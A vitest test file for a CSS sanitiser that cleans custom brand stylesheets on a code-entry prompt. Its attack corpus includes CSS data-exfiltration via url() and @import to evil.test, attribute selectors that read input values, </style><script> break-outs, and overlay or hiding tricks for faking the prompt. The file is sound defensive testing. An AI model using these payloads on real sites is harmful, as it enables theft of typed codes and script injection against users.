import { parse, walk, type CssNode } from 'css-tree';
import { describe, expect, it } from 'vitest';
import { AppError } from '@/lib/errors/app-error';
import { ZBrandLookSchema } from './brand-schema';
import { brandStylesheet } from './brand-stylesheet';
import { sanitizeBrandCss } from './sanitize-brand-css';

// The harmlessness check below keeps its own lists on purpose: it re-parses the OUTPUT and judges
// it independently, so a mistake in the sanitiser's allow-lists cannot also blind its tests.
const SAFE_FUNCTIONS = new Set(['rgb', 'rgba', 'hsl', 'hsla', 'calc', 'min', 'max', 'clamp']);
const SAFE_PSEUDO_CLASSES = new Set(['hover', 'focus', 'focus-visible', 'active', 'disabled', 'first-child', 'last-child']);
const LOADING_OR_FAKING_PROPERTIES = new Set([
  'content',
  'behavior',
  '-moz-binding',
  'cursor',
  'visibility',
  'filter',
  'background',
  'background-image',
  'list-style',
  'list-style-image',
  'border-image',
  'mask',
  'mask-image',
  'src',
  'unicode-range',
]);

function harmfulPartsOf(css: string): string[] {
  const found: string[] = [];
  if (css.includes('<')) found.push('a "<" that could close the <style> element');
  if (css.includes('\\')) found.push('an escape');
  walk(parse(css, { positions: false }), (node: CssNode) => {
    const problem = problemWith(node);
    if (problem) found.push(problem);
  });
  return found;
}

function problemWith(node: CssNode): string | null {
  switch (node.type) {
    case 'Atrule':
      return node.name === 'media' ? null : `@${node.name}`;
    case 'Url':
      return `url(${node.value})`;
    case 'Function':
      return SAFE_FUNCTIONS.has(node.name.toLowerCase()) ? null : `${node.name}()`;
    case 'AttributeSelector':
      return 'an attribute selector';
    case 'PseudoClassSelector':
      return SAFE_PSEUDO_CLASSES.has(node.name) && node.children === null ? null : `:${node.name}`;
    case 'PseudoElementSelector':
      return node.name === 'placeholder' ? null : `::${node.name}`;
    case 'TypeSelector':
      return ['*', 'html', 'body'].includes(node.name) || node.name.includes('|') ? node.name : null;
    case 'Selector': {
      const first = node.children.first;
      return first?.type === 'ClassSelector' && first.name === 'gh-prompt' ? null : 'a selector outside .gh-prompt';
    }
    case 'Declaration':
      return declarationProblem(node.property, node.value.type === 'Value' ? node.value.children.toArray() : null);
    case 'Raw':
    case 'NestingSelector':
      return `a ${node.type} node`;
    default:
      return null;
  }
}

function declarationProblem(property: string, value: CssNode[] | null): string | null {
  if (property.startsWith('--') || LOADING_OR_FAKING_PROPERTIES.has(property)) return property;
  if (value === null) return `${property} with an unparsed value`;
  const [only] = value;
  if (property === 'position' && !(only?.type === 'Identifier' && ['static', 'relative'].includes(only.name))) {
    return 'position other than static or relative';
  }
  if (property === 'display' && only?.type === 'Identifier' && ['none', 'contents'].includes(only.name)) return 'display: none';
  if (property === 'z-index' && !(only?.type === 'Number' && Math.abs(Number(only.value)) <= 10)) return 'a large z-index';
  if (property === 'color' && only?.type === 'Identifier' && only.name.toLowerCase() === 'transparent') return 'transparent text';
  if (property === 'font-size' && (only?.type === 'Number' || (only?.type === 'Dimension' && only.unit === 'px')) && Number(only.value) < 10) return 'tiny text';
  if (property === 'letter-spacing' && value.some((node) => (node.type === 'Dimension' || node.type === 'Number') && Number(node.value) < 0)) {
    return 'negative letter-spacing';
  }
  if (['box-shadow', 'outline', 'outline-width', 'outline-offset'].includes(property) && value.some((node) => node.type === 'Dimension' && Math.abs(Number(node.value)) > 8)) {
    return `a far-reaching ${property}`;
  }
  return null;
}

function sanitized(css: string) {
  const result = sanitizeBrandCss({ css });
  expect(harmfulPartsOf(result.css)).toEqual([]);
  return result;
}

type AttackCase = { title: string; css: string; reason: RegExp };

// Each attack must leave harmless output and tell the brand administrator why something went.
const ATTACKS: AttackCase[] = [
  // url() in every property that takes one
  { title: 'a background image', css: '.gh-prompt{background:url(https://evil.test/a.png)}', reason: /load an image/ },
  { title: 'a background-image', css: '.x{background-image:url(//evil.test/a.png)}', reason: /load an image/ },
  { title: 'a list-style image', css: 'li{list-style:square url(x.png)}', reason: /load an image/ },
  { title: 'a list-style-image', css: 'li{list-style-image:url(x.png)}', reason: /load an image/ },
  { title: 'a border-image', css: '.x{border-image:url(x.png) 30 round}', reason: /load an image/ },
  { title: 'a cursor image', css: '.x{cursor:url(x.cur),auto}', reason: /cursor can load an image/ },
  { title: 'content: url()', css: '.gh-prompt-title{content:url(x.svg)}', reason: /content can put fake text/ },
  { title: 'a mask', css: '.x{mask:url(m.svg#a)}', reason: /load an image/ },
  { title: 'a mask-image', css: '.x{mask-image:url(m.svg)}', reason: /load an image/ },
  { title: 'a filter pointing at an SVG', css: '.x{filter:url(https://evil.test/f.svg#f)}', reason: /filter can load an SVG/ },
  { title: 'src outside @font-face', css: '.x{src:url(f.woff)}', reason: /load an image/ },
  { title: 'url() in an allowed property', css: '.x{background-color:url(x)}', reason: /Addresses \(url\)/ },
  { title: 'url() inside a border shorthand', css: '.x{border:1px solid url(x)}', reason: /Addresses \(url\)/ },
  // @import in all its spellings
  { title: 'a plain @import', css: '@import "https://evil.test/x.css";', reason: /@import would load a stylesheet/ },
  { title: '@import url()', css: '@import url(https://evil.test/x.css) screen;', reason: /@import would load a stylesheet/ },
  { title: 'an escaped @\\69mport', css: '@\\69mport "x.css"; .x{color:red}', reason: /Escaped names are refused/ },
  { title: 'an escaped @\\000069mport', css: '@\\000069mport url(x.css);', reason: /Escaped names are refused/ },
  // other at-rules
  {
    title: '@font-face with unicode-range',
    css: '@font-face{font-family:k;src:url(https://evil.test/?c=1);unicode-range:U+0031}',
    reason: /@font-face would download fonts/,
  },
  { title: '@namespace', css: '@namespace svg url(http://www.w3.org/2000/svg);', reason: /@namespace/ },
  { title: '@supports', css: '@supports (display:grid){.x{color:red}}', reason: /Only style rules and @media/ },
  { title: '@keyframes', css: '@keyframes k{from{color:red}}', reason: /Only style rules and @media/ },
  { title: '@layer, @property, @container, @page and @charset', css: '@charset "utf-8";@layer a;@property --x{syntax:"*"}@container (min-width:1px){.x{color:red}}@page{margin:0}', reason: /Only style rules and @media/ },
  { title: 'an at-rule inside @media', css: '@media (max-width:600px){@import "x.css";@font-face{src:url(f)}}', reason: /Only style rules are accepted inside @media/ },
  { title: 'a fingerprinting media query', css: '@media (min-resolution:2dppx){.x{color:red}}', reason: /can be used in @media/ },
  // selectors that read the field or reach outside the prompt
  { title: 'input[value^="1"]', css: 'input[value^="1"]{background-color:red}', reason: /Attribute selectors could read/ },
  { title: '[name=code]', css: '[name=code]{color:red}', reason: /Attribute selectors could read/ },
  { title: ':has(input[value])', css: '.gh-prompt:has(input[value="1"]){color:red}', reason: /:has\(\), :not\(\)/ },
  { title: ':not([value=""])', css: '.gh-prompt-field:not([value=""]){color:red}', reason: /:has\(\), :not\(\)/ },
  { title: ':is([value])', css: ':is([value]){color:red}', reason: /:has\(\), :not\(\)/ },
  { title: ':root', css: ':root{color:red}', reason: /not the page around it/ },
  { title: 'html and body', css: 'html, body{color:red}', reason: /not the page around it/ },
  { title: 'the universal selector', css: '*{color:red}', reason: /Universal and namespaced/ },
  { title: 'a namespace prefix', css: 'svg|a{color:red}', reason: /Universal and namespaced/ },
  { title: ':visited', css: 'a:visited{color:red}', reason: /:visited can reveal/ },
  { title: '::selection', css: '::selection{color:red}', reason: /Only ::placeholder/ },
  { title: 'an escaped class name', css: '.gh\\2d prompt{color:red}', reason: /Escaped names are refused/ },
  // </style> break-outs
  { title: '</style> in a value', css: '.x{color:</style><script>alert(1)</script>}', reason: /could not read/ },
  { title: '</style> in a string', css: '.x{font-family:"</style><script>alert(1)</script>"}', reason: /font families/ },
  { title: '</style> after a rule', css: '.x{color:red}</style><script>alert(1)</script>', reason: /could not read/ },
  { title: '</style> in a comment', css: '/* </style><script>alert(1)</script> */.x{color:red}', reason: /Comments are not copied/ },
  // faking or hiding the prompt
  { title: 'a position: fixed overlay', css: '.gh-prompt-footer{position:fixed;inset:0;z-index:9}', reason: /position may only be static or relative/ },
  { title: 'position: absolute', css: '.x{position:absolute}', reason: /position may only be static or relative/ },
  { title: 'z-index: 2147483647', css: '.x{position:relative;z-index:2147483647}', reason: /z-index must be a whole number/ },
  { title: 'fake text with content on ::before', css: '.gh-prompt-title::before{content:"Enter your password"}', reason: /::before and ::after/ },
  { title: 'display: none on the field', css: '.gh-prompt-field{display:none}', reason: /display may only be/ },
  { title: 'visibility: hidden', css: '.gh-prompt-button{visibility:hidden}', reason: /visibility could hide/ },
  { title: 'an invisible opacity', css: '.gh-prompt-field{opacity:0}', reason: /opacity below 0.5/ },
  { title: 'a negative margin hidden in calc()', css: '.gh-prompt-footer{margin-top:calc(0px - 400px)}', reason: /negative margins/ },
  // hiding the prompt with values every allow-list accepts
  { title: 'color: transparent', css: '.gh-prompt-field{color:transparent}', reason: /Transparent or nearly transparent text/ },
  { title: 'text in rgba() with no alpha', css: '.gh-prompt-title{color:rgba(0,0,0,0)}', reason: /Transparent or nearly transparent text/ },
  { title: 'text in #hex with an alpha of zero', css: '.gh-prompt-body{color:#fff0}', reason: /Transparent or nearly transparent text/ },
  { title: 'text in rgb() / 10%', css: '.gh-prompt-body{color:rgb(0 0 0 / 10%)}', reason: /Transparent or nearly transparent text/ },
  { title: 'a text colour the check cannot judge', css: '.gh-prompt-body{color:rgb(calc(1) 0 0 / calc(0))}', reason: /must be a plain colour/ },
  { title: 'text the colour of its background', css: '.gh-prompt-field{color:white;background-color:#fff}', reason: /same colour as its background/ },
  { title: 'text nearly the colour of its background', css: '.gh-prompt-title{background-color:hsl(0 0% 100%);color:#f4f4f4}', reason: /same colour as its background/ },
  { title: 'an !important background the colour of the text', css: '.gh-prompt-body{background-color:#123456!important;background-color:red;color:#123456}', reason: /same colour as its background/ },
  { title: 'a background in currentColor', css: '.gh-prompt-field{background-color:currentColor}', reason: /text’s own colour/ },
  { title: 'text in the page’s own background colour, with no background in its rule', css: '.gh-prompt-title{color:#fafafa}', reason: /background it sits on/ },
  { title: 'text and background split across two rules', css: '.gh-prompt{background-color:#111}.gh-prompt-body{color:#121212}', reason: /background it sits on/ },
  { title: 'a background in the colour of the text on it', css: '.gh-prompt-body{background-color:#0f172a}', reason: /background it sits on/ },
  { title: 'the button’s label in the button’s colour', css: '.gh-prompt-button{color:#1d4ed8}', reason: /background it sits on/ },
  { title: 'the typed code in the field’s white', css: '.gh-prompt-field{color:#fefefe}', reason: /background it sits on/ },
  { title: 'a transparent background beside text in the page’s colour', css: '.gh-prompt-title{color:#fafafa;background-color:transparent}', reason: /background it sits on/ },
  { title: 'a card’s background set apart from a text colour that matches it', css: '.gh-prompt{background-color:#000}.gh-prompt-body{background-color:#fff}.gh-prompt-body p{color:#fefefe}', reason: /background it sits on/ },
  { title: 'an opacity on boxes nested in one another', css: '.gh-prompt div{opacity:.5}', reason: /opacities multiply/ },
  { title: 'opacities that multiply to nothing', css: '.gh-prompt{opacity:.7}.gh-prompt-body{opacity:.7}', reason: /opacities multiply/ },
  { title: 'a border that fills the field', css: '.gh-prompt-field{border-left:1000px solid #fff}', reason: /Borders may be at most/ },
  { title: 'a border-width in em', css: '.gh-prompt-button{border-width:40em}', reason: /Borders may be at most/ },
  { title: 'padding that squeezes the field’s text out of view', css: '.gh-prompt-field{width:100%;padding:2px 2px 2px 1000px}', reason: /take at most 32px of padding/ },
  { title: 'a vertical-align length that moves the button away', css: '.gh-prompt-button{vertical-align:-10000px}', reason: /vertical-align may only be a keyword/ },
  { title: 'font-size: 0', css: '.gh-prompt-field{font-size:0}', reason: /font-size must be at least 10px/ },
  { title: 'font-size under 10px', css: '.gh-prompt-body{font-size:9.5px}', reason: /font-size must be at least 10px/ },
  { title: 'a font-size in pt under 10px', css: '.gh-prompt-body{font-size:7pt}', reason: /font-size must be at least 10px/ },
  { title: 'a relative font-size that compounds', css: '.gh-prompt{font-size:0.5em}.gh-prompt-body{font-size:50%}', reason: /font-size must be at least 10px/ },
  { title: 'font-size: xx-small', css: '.gh-prompt-title{font-size:xx-small}', reason: /font-size must be at least 10px/ },
  { title: 'a font-size in calc()', css: '.gh-prompt-title{font-size:calc(1px - 1px)}', reason: /font-size must be at least 10px/ },
  { title: 'negative letter-spacing', css: '.gh-prompt-field{letter-spacing:-1em}', reason: /letter-spacing must be zero or more/ },
  { title: 'negative letter-spacing in calc()', css: '.gh-prompt-field{letter-spacing:calc(0px - 3px)}', reason: /letter-spacing must be zero or more/ },
  { title: 'a zero-width code field', css: '.gh-prompt-field{width:0}', reason: /Widths and heights must be at least/ },
  { title: 'a one-pixel-high button', css: 'button{height:1px}', reason: /Widths and heights must be at least/ },
  { title: 'a max-height of zero', css: '.gh-prompt-body{max-height:0}', reason: /Widths and heights must be at least/ },
  { title: 'a width of 1%', css: 'input{width:1%}', reason: /Widths and heights must be at least/ },
  { title: 'a width in vw', css: '.gh-prompt-button{width:0.1vw}', reason: /Widths and heights must be at least/ },
  { title: 'zero padding on the button', css: '.gh-prompt-button{padding:0}', reason: /keep at least 2px of padding/ },
  { title: 'near-zero padding on the field', css: '.gh-prompt-body input{padding:8px 0.5px}', reason: /keep at least 2px of padding/ },
  { title: 'a box-shadow spread over the page', css: '.gh-prompt-button{box-shadow:0 0 0 9999px #fff}', reason: /Shadows and outlines may reach at most/ },
  { title: 'a box-shadow thrown far away', css: '.gh-prompt-title{box-shadow:0 300px 0 0 white, 0 1px 2px #000}', reason: /Shadows and outlines may reach at most/ },
  { title: 'a box-shadow in em', css: '.gh-prompt-title{box-shadow:0 0 0 100em white}', reason: /Shadows and outlines may reach at most/ },
  { title: 'a text-shadow thrown far away', css: '.gh-prompt-title{text-shadow:0 -200px 0 #000}', reason: /Shadows and outlines may reach at most/ },
  { title: 'a huge outline', css: '.gh-prompt-field{outline:9999px solid white}', reason: /Shadows and outlines may reach at most/ },
  { title: 'a far outline-offset', css: '.gh-prompt-field{outline-offset:-400px}', reason: /Shadows and outlines may reach at most/ },
  { title: 'an outline-width in calc()', css: '.gh-prompt-field{outline-width:calc(9999px)}', reason: /Shadows and outlines may reach at most/ },
  // names that are members of every JavaScript object
  { title: 'a __proto__ property', css: '.x{__proto__:red}', reason: /not on the list/ },
  { title: 'a constructor property', css: '.x{constructor:red}', reason: /not on the list/ },
  { title: 'an @constructor at-rule', css: '@constructor x;@__proto__ y;', reason: /Only style rules and @media/ },
  { title: 'a :constructor pseudo-class', css: '.x:constructor, .x:__proto__{color:red}', reason: /Only :hover/ },
  // comments and escapes hiding the above
  { title: 'an escaped u\\72l()', css: '.x{background-color:u\\72l(evil)}', reason: /Escaped names are refused/ },
  { title: 'an escaped u\\72l() with an address in it', css: '.x{background-color:u\\72l(https://evil.test/)}', reason: /could not read/ },
  { title: 'a comment before url()', css: '.x{background-color:/**/url(https://evil.test/)}', reason: /Addresses \(url\)/ },
  { title: 'expression()', css: '.x{width:expression(alert(1))}', reason: /expression\(\) runs script/ },
  { title: 'behavior: url(x.htc)', css: '.x{behavior:url(x.htc)}', reason: /behavior and -moz-binding/ },
  { title: '-moz-binding', css: '.x{-moz-binding:url(x.xml#xss)}', reason: /behavior and -moz-binding/ },
  { title: 'var() smuggling', css: '.x{--u:url(x);background-color:var(--u)}', reason: /var\(\), env\(\) and attr\(\)/ },
  { title: 'attr() and env()', css: '.x{width:attr(data-w);height:env(safe-area-inset-top)}', reason: /var\(\), env\(\) and attr\(\)/ },
  { title: 'image-set()', css: '.x{background-color:image-set("x.png" 1x)}', reason: /Image functions/ },
  { title: 'a custom property', css: '.x{--brand:red}', reason: /Custom properties/ },
  { title: 'a property off the list', css: '.x{transform:translateY(-100px)}', reason: /not on the list/ },
];

describe('sanitizeBrandCss: attack corpus', () => {
  it.each(ATTACKS)('neutralises $title and says why', ({ css, reason }) => {
    const { dropped } = sanitized(css);
    expect(dropped.map((entry) => entry.reason)).toContainEqual(expect.stringMatching(reason));
  });

  it('relies on a harmlessness check that does spot attacks when they are left in', () => {
    expect(harmfulPartsOf('@import "x.css";input[value^="1"]{background-color:url(x);position:fixed;z-index:99}')).toEqual([
      '@import',
      'a selector outside .gh-prompt',
      'an attribute selector',
      'url(x)',
      'position other than static or relative',
      'a large z-index',
    ]);
  });

  it('says each reason as a sentence, whatever the name', () => {
    for (const { css } of ATTACKS) {
      for (const { reason } of sanitizeBrandCss({ css }).dropped) expect(typeof reason).toBe('string');
    }
  });

  it('relies on a harmlessness check that spots hidden text and far-reaching paint when they are left in', () => {
    expect(harmfulPartsOf('.gh-prompt{color:transparent;font-size:0;letter-spacing:-2px;box-shadow:0 0 0 999px red;outline:50px solid red}')).toEqual([
      'transparent text',
      'tiny text',
      'negative letter-spacing',
      'a far-reaching box-shadow',
      'a far-reaching outline',
    ]);
  });

  it('drops only the text colour when it matches its background, so the text falls back to a readable one', () => {
    const { css, dropped } = sanitized('.gh-prompt-field{background-color:#ffffff;color:white;font-weight:600}');
    expect(css).toBe('.gh-prompt .gh-prompt-field{background-color:#ffffff;font-weight:600}');
    expect(dropped).toEqual([{ what: 'color: white', reason: expect.stringMatching(/same colour as its background/) }]);
  });

  it('keeps readable text, sizes, padding, shadows and outlines', () => {
    const css =
      '.gh-prompt-field{color:#111;background-color:#fff;font-size:16px;letter-spacing:0.02em;width:100%;height:2.5rem;padding:8px 12px;' +
      'box-shadow:0 1px 2px rgba(0,0,0,.2), inset 0 0 0 1px #ccc;outline:2px solid #8a3ffc;outline-offset:-2px}';
    const { css: kept, dropped } = sanitized(css);
    expect(dropped).toEqual([]);
    expect(kept).toBe(`.gh-prompt ${css.replace(', inset', ',inset')}`);
  });

  it('lets boxes that are neither the field nor the button drop their padding', () => {
    const { css, dropped } = sanitized('.gh-prompt{padding:0}.gh-prompt-footer{padding:0}');
    expect(dropped).toEqual([]);
    expect(css).toBe('.gh-prompt{padding:0}\n.gh-prompt .gh-prompt-footer{padding:0}');
  });

  it('keeps the harmless rules next to an attack', () => {
    const { css } = sanitized('@\\69mport "x.css"; .gh-prompt-title{color:#123456} </style>');
    expect(css).toBe('.gh-prompt .gh-prompt-title{color:#123456}');
  });

  it('rescopes a selector that steps from the wrapper to its siblings', () => {
    const { css } = sanitized('.gh-prompt ~ form, .gh-prompt + div{color:red}');
    expect(css).toBe('.gh-prompt .gh-prompt~form,.gh-prompt .gh-prompt+div{color:red}');
  });

  it('drops a whole @media block whose condition is not on the list, with the rules inside it', () => {
    const { css, dropped } = sanitized('@media print, (hover: hover){.x{color:red}}');
    expect(css).toBe('');
    expect(dropped).toHaveLength(1);
  });

  it('cuts what it reports to 80 characters', () => {
    const { dropped } = sanitized(`.x{background-image:url(https://evil.test/${'a'.repeat(200)})}`);
    expect(dropped[0]?.what.length).toBeLessThanOrEqual(80);
  });
});

describe('sanitizeBrandCss: size limit', () => {
  it('refuses a stylesheet over 20 kB', () => {
    const css = `.x{color:red}${' '.repeat(20 * 1024)}`;
    expect(() => sanitizeBrandCss({ css })).toThrow(expect.objectContaining({ code: 'BRAND_CSS_TOO_LARGE' }));
    expect(() => sanitizeBrandCss({ css })).toThrow(AppError);
  });

  it('counts UTF-8 bytes, not characters', () => {
    const css = `.x{font-family:"${'€'.repeat(7000)}"}`;
    expect(css.length).toBeLessThan(20 * 1024);
    expect(() => sanitizeBrandCss({ css })).toThrow(expect.objectContaining({ code: 'BRAND_CSS_TOO_LARGE' }));
  });

  it('accepts a stylesheet of exactly 20 kB', () => {
    const rule = '.x{color:red}';
    const css = rule + ' '.repeat(20 * 1024 - rule.length);
    expect(sanitized(css).css).toBe('.gh-prompt .x{color:red}');
  });
});

describe('sanitizeBrandCss: a real brand', () => {
  const brand = `
    .gh-prompt {
      background-color: #f7f4ef;
      color: rgb(20 30 40);
      font-family: "Segoe UI", Roboto, Helvetica, Arial, sans-serif;
      border: 1px solid #d0c8bb;
      border-radius: 12px;
      padding: 24px 32px;
    }
    .gh-prompt-title { font-size: 1.5rem; font-weight: 600; letter-spacing: 0.01em }
    .gh-prompt-field:focus-visible { outline: 2px solid #8a3ffc; outline-offset: 2px }
    .gh-prompt-field::placeholder { color: hsl(0 0% 45%) }
    .gh-prompt-button:hover, .gh-prompt-button:focus { background-color: #5b21b6 !important }
    @media (max-width: 600px) {
      .gh-prompt { padding: 16px; border-radius: 0 }
      .gh-prompt-header > .gh-prompt-logo { max-width: 120px }
    }
  `;

  it('comes out scoped under .gh-prompt with every value kept and nothing reported', () => {
    const { css, dropped } = sanitized(brand);
    expect(dropped).toEqual([]);
    expect(css).toBe(
      [
        '.gh-prompt{background-color:#f7f4ef;color:rgb(20 30 40);font-family:"Segoe UI",Roboto,Helvetica,Arial,sans-serif;' +
          'border:1px solid #d0c8bb;border-radius:12px;padding:24px 32px}',
        '.gh-prompt .gh-prompt-title{font-size:1.5rem;font-weight:600;letter-spacing:0.01em}',
        '.gh-prompt .gh-prompt-field:focus-visible{outline:2px solid #8a3ffc;outline-offset:2px}',
        '.gh-prompt .gh-prompt-field::placeholder{color:hsl(0 0% 45%)}',
        '.gh-prompt .gh-prompt-button:hover,.gh-prompt .gh-prompt-button:focus{background-color:#5b21b6!important}',
        '@media (max-width:600px){.gh-prompt{padding:16px;border-radius:0}.gh-prompt .gh-prompt-header>.gh-prompt-logo{max-width:120px}}',
      ].join('\n'),
    );
  });

  it('gives the same output every time', () => {
    expect(sanitizeBrandCss({ css: brand })).toEqual(sanitizeBrandCss({ css: brand }));
  });

  it('keeps the layout values a brand may use', () => {
    const { css, dropped } = sanitized(
      '.gh-prompt-body{display:flex;flex-direction:column;gap:8px;position:relative;z-index:2;opacity:.9;font-family:Times New Roman,serif}',
    );
    expect(dropped).toEqual([]);
    expect(css).toBe(
      '.gh-prompt .gh-prompt-body{display:flex;flex-direction:column;gap:8px;position:relative;z-index:2;opacity:.9;font-family:Times New Roman,serif}',
    );
  });
});

describe('sanitizeBrandCss: text judged against what it sits on', () => {
  it('keeps a dark theme whose text and background are set on the wrapper, and a label set against the brand’s button colour', () => {
    const css = '.gh-prompt{background-color:#111;color:#eee}.gh-prompt-title{color:#ddd}.gh-prompt-button{color:#fff}.gh-prompt-field{color:#222}';
    expect(sanitized(css).dropped).toEqual([]);
  });

  it('drops a button label in the brand’s own primary colour, which paints the button', () => {
    const { dropped } = sanitizeBrandCss({ css: '.gh-prompt-button{color:#7c3aed}', primaryColor: '#7c3aed' });
    expect(dropped).toEqual([{ what: 'color: #7c3aed', reason: expect.stringMatching(/background it sits on/) }]);
  });

  it('refuses a primary colour the button’s white label would vanish into, and never serves one saved before', () => {
    const look = { name: 'Pale Mail', supportContact: null, css: '' };
    expect(ZBrandLookSchema.safeParse({ ...look, primaryColor: '#fefefe' }).success).toBe(false);
    expect(ZBrandLookSchema.safeParse({ ...look, primaryColor: '#1d4ed8' }).success).toBe(true);
    expect(brandStylesheet({ primaryColor: '#ffffff', servedCss: null })).toBe('');
  });

  it('lets named parts of the prompt fade a little, as long as all of them together stay visible', () => {
    expect(sanitized('.gh-prompt-body{opacity:.9}.gh-prompt-button:disabled{opacity:.8}').dropped).toEqual([]);
    expect(sanitized('.gh-prompt-body{opacity:.8}.gh-prompt-field{opacity:.6}').dropped).toEqual([
      { what: 'opacity: .6', reason: expect.stringMatching(/opacities multiply/) },
    ]);
  });
});
